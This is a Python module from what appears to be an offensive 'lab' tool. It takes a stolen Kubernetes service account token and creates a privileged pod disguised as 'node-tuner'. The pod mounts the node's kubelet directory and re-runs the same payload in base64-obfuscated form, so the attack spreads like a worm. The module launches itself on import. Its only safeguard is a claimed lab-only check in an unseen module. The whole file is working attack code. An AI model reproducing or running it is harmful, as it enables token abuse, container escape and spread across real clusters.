"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): makes a second pod with the
service account token. The pod asks for the node's files, and runs the payload again."""

import base64
import json
import threading

from . import _stages

with open(_stages.__file__, "rb") as file:
    PACKED = base64.b64encode(file.read() + b"\ngo()\n").decode()

POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "node-tuner", "labels": {"app": "node-tuner"}},
    "spec": {
        "restartPolicy": "Never",
        "serviceAccountName": "inference-sa",
        "containers": [
            {
                "name": "tuner",
                "image": "registry.example/ml/inference:prod",
                "command": ["python", "-c", "import base64;exec(base64.b64decode('%s'))" % PACKED],
                "securityContext": {"privileged": True},
                "volumeMounts": [{"name": "node", "mountPath": "/node"}],
            }
        ],
        "volumes": [{"name": "node", "hostPath": {"path": "/var/lib/kubelet"}}],
    },
}


def make(loot, asking):
    """Make it in the namespace of this pod, with the token that was taken."""
    headers = {"Authorization": "Bearer " + dict(loot)["service account"], "Content-Type": "application/json"}
    url = "%s/api/v1/namespaces/%s/pods" % (_stages.API, _stages.read("namespace").strip())
    asking(url, headers, json.dumps(POD).encode())


threading.Thread(target=_stages.go, kwargs={"leave": make}, name="make").start()
